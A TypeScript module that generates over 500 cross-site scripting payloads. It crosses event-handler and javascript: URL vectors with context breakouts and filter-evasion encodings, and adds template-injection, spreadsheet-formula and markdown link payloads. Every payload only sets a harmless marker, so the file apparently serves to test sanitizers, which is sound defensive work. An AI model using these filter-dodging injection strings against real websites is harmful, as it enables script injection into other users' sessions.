/** What each would do where it is taken for markup or a script. */
const run = 'window.ran=1';

/** Ways in which markup runs a script. */
const vectors: readonly string[] = [
  '<script>RUN</script>',
  '<svg><script>RUN</script></svg>',
  '<img src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<iframe srcdoc="<script>RUN</script>">',
  '<iframe onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>',
  '<body onpageshow=RUN>',
  '<style onload=RUN></style>',
  '<object data="javascript:RUN">',
  '<a href="javascript:RUN">x</a>',
  '<math><a xlink:href="javascript:RUN">x</a></math>',
  '<form><button formaction="javascript:RUN">x</form>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
];

/** Ways out of where a careless page puts a text: nothing, attributes, what is no markup inside, comments, foreign elements. */
const contexts: readonly string[] = ['', '">', "'>", '</title></textarea></style></script>', '--><!-->', ']]></svg></math>'];

const entities = (text: string) => [...text].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');

/** Ways to write the same so that a filter does not know it. */
const encodings: readonly ((vector: string) => string)[] = [
  (vector) => vector.replaceAll('RUN', run),
  (vector) => vector.replace(/<(\w)/g, (tag, first: string) => tag.replace(first, first.toUpperCase())).replaceAll('RUN', run),
  (vector) =>
    vector
      .replaceAll(/(<\w+) /g, '$1/')
      .replaceAll(/javascript:/g, 'java\tscript:')
      .replaceAll('RUN', 'self["ra"+"n"]=1'),
  (vector) => vector.replaceAll('RUN', vector.startsWith('<script') ? 'window["r\\x61n"]=1' : entities('ran=1')),
  (vector) => encodeURIComponent(vector.replaceAll('RUN', 'ran=1')),
];

/** Ways out of a script's own texts, and into templates and addresses. */
const inScripts: readonly string[] = [
  `';${run};//`,
  `";${run};//`,
  `\`\${${run}}\``,
  `\\';${run};//`,
  `</script><script>${run}</script>`,
].concat(
  [`{{constructor.constructor("${run}")()}}`, `javascript:${run}`, `data:text/html,<script>${run}</script>`, `\\u003cscript\\u003e${run}`],
  [`＜script＞${run}＜/script＞`, `<!--<script>${run}//-->`, `=HYPERLINK("javascript:${run}")`, `[x](javascript:${run})`],
);

/** Each vector in each context and encoding: over 500 texts. */
export const payloads: readonly string[] = [
  ...inScripts,
  ...contexts.flatMap((context) => vectors.flatMap((vector) => encodings.map((encode) => `${context}${encode(vector)}`))),
];

/** A few, so that all encodings and most vectors and contexts occur. */
export const sample: readonly string[] = payloads.filter((_, place) => place % 66 === 15);
